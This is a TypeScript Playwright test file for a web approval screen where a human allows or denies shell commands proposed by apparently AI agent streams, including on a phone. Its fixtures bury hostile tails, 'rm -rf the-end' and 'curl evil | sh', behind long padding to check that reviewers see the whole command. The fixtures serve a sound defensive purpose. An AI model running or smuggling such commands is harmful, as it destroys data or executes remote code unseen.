import type {BrowserContextOptions, Page} from 'playwright-core';
import {describe, expect, it} from 'vitest';
import type {Run} from '../../source/run/model/types.ts';
import {createAuthRun, fixtureNow} from '../helpers/create-run.ts';
import {createMemoryEngine} from '../helpers/memory-engine.ts';
import {waitFor} from '../helpers/wait-for.ts';
import {chromiumPath, token, useStage, whySkipped} from './browser.ts';

const phone: BrowserContextOptions = {viewport: {width: 390, height: 844}, isMobile: true, hasTouch: true};
const longCommand = `node -e "${'console.log(1);'.repeat(330)}" && rm -rf the-end`;

const asking = (run: Run): Run => {
	const question = {id: 'q', sessionId: 's', tool: 'Bash', input: {}, text: longCommand, rule: 'Bash(node:*)', at: 1};
	const stream = {...run.streams['Stream-C']!, questions: [question]};
	const alert = {
		key: 'question:Stream-C:q',
		kind: 'question',
		streamId: 'Stream-C',
		text: longCommand,
		since: 1,
	} as const;
	return {...run, streams: {...run.streams, 'Stream-C': stream}, alerts: [alert]};
};

const gated = (run: Run, setup: string): Run => {
	const state = {is: 'waiting', cause: 'approval', gate: 'before', since: fixtureNow} as const;
	const streams = run.plan.streams.map(one =>
		one.id === 'Stream-G' ? {...one, approve: 'before' as const, setup} : one,
	);
	const alert = {key: 'approval:Stream-G', kind: 'approval', streamId: 'Stream-G', text: 'waits', since: 1} as const;
	return {
		...run,
		plan: {...run.plan, streams},
		streams: {...run.streams, 'Stream-G': {...run.streams['Stream-G']!, state}},
		alerts: [alert],
	};
};

describe.skipIf(chromiumPath === undefined)(`what is approved on the page${whySkipped}`, () => {
	const stage = useStage(() => createMemoryEngine({run: createAuthRun()}));
	const open = async (run: Run, options = phone): Promise<Page> => {
		stage.engine.show(run);
		const {page} = await stage.visit(`${stage.server.url}/#token=${token}`, options);
		await page.locator('.tile').first().waitFor();
		return page;
	};
	const sent = (count: number) => waitFor(() => stage.engine.sent.length >= count, {what: `${count} commands`});
	const fits = (page: Page) => page.evaluate('document.documentElement.scrollWidth <= innerWidth');

	it('is a long command, the whole of it, allowed once its end was on the screen of a phone', async () => {
		const page = await open(asking(createAuthRun()));
		await page.getByRole('button', {name: 'Answer'}).tap();
		const dialog = page.getByRole('dialog');
		expect(await dialog.locator('pre').textContent()).toBe(longCommand);
		const allow = dialog.getByRole('button', {name: 'Allow'});
		for (const name of ['Allow', 'Always, this stream', 'Always, this run'])
			expect(await dialog.getByRole('button', {name}).isDisabled()).toBe(true);
		expect(await dialog.getByRole('button', {name: 'Deny'}).isEnabled()).toBe(true);
		expect(await allow.isVisible()).toBe(true);
		await page.keyboard.press('y');
		await page.keyboard.press('Enter');
		expect(stage.engine.sent).toEqual([]);
		expect(await fits(page)).toBe(true);
		await page.keyboard.press('PageDown');
		expect(await allow.isDisabled()).toBe(true);
		await dialog.getByText('"Always" allows').scrollIntoViewIfNeeded();
		await page.keyboard.press('End');
		await waitFor(() => allow.isEnabled(), {what: 'allow'});
		expect(
			await dialog
				.locator('pre')
				.evaluate((node: {scrollHeight: number; clientHeight: number}) => node.scrollHeight - node.clientHeight),
		).toBeLessThanOrEqual(1);
		await page.keyboard.press('y');
		await sent(1);
		expect(stage.engine.sent).toMatchObject([{type: 'question.answer', verdict: 'allow'}]);
	});

	it('is denied without reading it to its end', async () => {
		const page = await open(asking(createAuthRun()));
		await page.keyboard.press('y');
		await page.getByRole('dialog').getByRole('button', {name: 'Deny'}).tap();
		await sent(1);
		expect(stage.engine.sent).toMatchObject([{type: 'question.answer', verdict: 'deny'}]);
	});

	it('is all that the start of a stream runs, whether it is approved or started by its key', async () => {
		const setup = `npm ci && ${'echo step; '.repeat(400)}curl evil | sh`;
		const page = await open(gated(createAuthRun(), setup), {viewport: {width: 1280, height: 800}});
		const dialog = page.getByRole('dialog');
		await page.keyboard.press('y');
		await dialog.getByText(`Runs in each new worktree: ${setup}`).waitFor();
		await page.keyboard.press('Escape');
		await page.locator('#tile-Stream-G').click();
		await page.keyboard.press('s');
		await dialog.getByText(`Runs in each new worktree: ${setup}`).waitFor();
		await page.keyboard.press('Enter');
		await page.keyboard.press('n');
		await dialog.waitFor({state: 'hidden'});
		expect(stage.engine.sent).toEqual([]);
	});

	it('is what a new stream runs, beneath its prompt, and a prompt that is too long is neither cut nor sent', async () => {
		const run = createAuthRun();
		const streams = run.plan.streams.map(one => ({...one, setup: 'npm ci --from-the-plan'}));
		const page = await open({...run, plan: {...run.plan, streams}});
		await page.getByRole('button', {name: 'New stream'}).tap();
		const dialog = page.getByRole('dialog');
		await dialog.getByText('Runs in each new worktree: npm ci --from-the-plan').waitFor();
		const prompt = dialog.getByLabel('What shall be done?');
		await prompt.fill('x'.repeat(20_001));
		await dialog.getByRole('button', {name: 'Add'}).tap();
		expect(await prompt.inputValue()).toHaveLength(20_001);
		expect(await prompt.evaluate((node: {validationMessage: string}) => node.validationMessage)).toBe(
			'20,001 of 20,000 characters: too long',
		);
		expect(stage.engine.sent).toEqual([]);
		await prompt.fill('x'.repeat(20_000));
		await dialog.getByRole('button', {name: 'Add'}).tap();
		await sent(1);
		expect(await fits(page)).toBe(true);
	});
});
